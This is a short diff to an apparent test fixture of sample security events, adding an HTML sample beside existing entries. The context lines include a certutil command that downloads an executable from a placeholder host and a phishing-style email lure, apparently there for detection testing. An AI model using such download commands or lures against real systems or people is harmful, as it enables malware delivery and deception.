@@ -21,6 +21,7 @@ EVENTS = {
     "url-category": b"www.example.org",
     "command-line": rb"C:\Windows\System32\certutil.exe -urlcache -f http://a.example/x.exe x.exe",
     "email": b"From: a@b.example\r\nSubject: Your account\r\n\r\nClick http://c.example/ now.\r\n",
+    "html": b"<html><body><h1>Your account</h1></body></html>\x1fhttp://a.example/",
 }
 MULTIPART = (
     b"Subject: x\r\nMIME-Version: 1.0\r\nContent-Type: multipart/alternative; boundary=q\r\n\r\n"
